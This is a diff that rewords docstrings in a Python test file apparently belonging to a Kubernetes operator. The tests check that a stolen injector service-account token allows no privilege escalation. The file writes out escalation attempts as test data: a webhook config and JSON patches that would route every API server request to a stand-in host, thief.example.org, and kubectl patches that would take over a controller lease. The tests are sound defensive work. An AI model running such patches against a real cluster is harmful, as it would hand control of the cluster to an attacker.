@@ -1,4 +1,4 @@
-"""What the injector's token is worth to somebody who steals it: what the injector does, and no way up from there."""
+"""What a thief can do with the injector's token: only the injector's own work, without any privilege escalation."""
 
 import json
 from collections.abc import Mapping
@@ -23,7 +23,7 @@ ALLOWED: Final = {
     ("sovereignty.dev", "sovereigntypolicies", "list"),
     ("sovereignty.dev", "sovereigntypolicies", "watch"),
 }
-"""All that it may do, and others may not: read what its answers depend on."""
+"""The injector's rights beyond those of every account: to read what its answers depend on."""
 
 EVERYTHING: Final = {"apiGroups": ["*"], "apiVersions": ["*"], "operations": ["*"], "resources": ["*/*"]}
 ELSEWHERE: Final = [
@@ -32,16 +32,16 @@ ELSEWHERE: Final = [
     {"op": "remove", "path": "/webhooks/0/namespaceSelector"},
     {"op": "remove", "path": "/webhooks/0/matchConditions"},
 ]
-"""Has the API server show the thief every request, and do as the thief says."""
+"""Changes that would send every request of the API server to the thief's webhook, whose answers it would follow."""
 
 
 def made(api_version: str, kind: str, **parts: object) -> Json:
-    """Return an object of the thief's."""
+    """Return an object named after the thief."""
     return {"apiVersion": api_version, "kind": kind, "metadata": {"name": "thief"}, **parts}
 
 
 def webhook() -> Json:
-    """Return a webhook that sees everything."""
+    """Return a webhook that receives every request."""
     sides = {"admissionReviewVersions": ["v1"], "sideEffects": "None"}
     client = {"url": "https://thief.example.org/"}
     return {"name": "thief.example.org", "clientConfig": client, "rules": [EVERYTHING], **sides}
@@ -54,7 +54,7 @@ HERE: Final = ("-n", NAMESPACE)
 
 
 def patch(thing: str, change: Json) -> tuple[str, ...]:
-    """Return the words that change a thing."""
+    """Return the arguments of kubectl that patch an object."""
     return ("patch", *thing.split(), DRY, "--type=merge", "-p", json.dumps(change))
 
 
@@ -71,12 +71,12 @@ WAYS_UP: Final[Mapping[str, tuple[tuple[str, ...], Json | None]]] = {
     "say how far a policy has come": ((*HERE, *patch("configmap sovereignty-transit.x", {"data": {"x": "y"}})), None),
     "lead in the controller's place": ((*HERE, *patch("lease sovereign-controller", {"spec": {}})), None),
 }
-"""Beside those that no process has: see test_stolen_tokens."""
+"""In addition to those that are forbidden to every process: see test_stolen_tokens."""
 
 
 @pytest.fixture(scope="module")
 def thief(admin: Kubectl, cluster: Cluster, tmp_path_factory: pytest.TempPathFactory) -> Kubectl:
-    """Somebody who has the injector's token, and nothing else."""
+    """A client that has only the injector's token."""
     config = yaml.safe_load(cluster.kubeconfig.read_text(encoding="utf-8"))
     config["users"][0]["user"] = {"token": admin.run("-n", NAMESPACE, "create", "token", PROCESS).strip()}
     stolen = tmp_path_factory.mktemp("stolen") / "kubeconfig"
@@ -92,13 +92,13 @@ def test_no_way_leads_up_from_the_injectors_token(thief: Kubectl, attempt: tuple
 
 
 def test_the_injectors_token_may_do_nothing_but_read_what_answers_depend_on(admin: Kubectl, thief: Kubectl) -> None:
-    """All that the API server counts up, in the namespace where it may most."""
+    """The API server lists all rights in the operator's namespace, where the injector has the most."""
     everybody = rights(admin, f"--as=system:serviceaccount:{NAMESPACE}:default")
     assert rights(thief) - everybody == ALLOWED
 
 
 def rights(person: Kubectl, *options: str) -> set[tuple[str, str, str]]:
-    """Return what somebody may do, as the API server counts it up: group, resource and verb."""
+    """Return a user's rights as the API server lists them: group, resource and verb."""
     review = {
         "apiVersion": "authorization.k8s.io/v1",
         "kind": "SelfSubjectRulesReview",
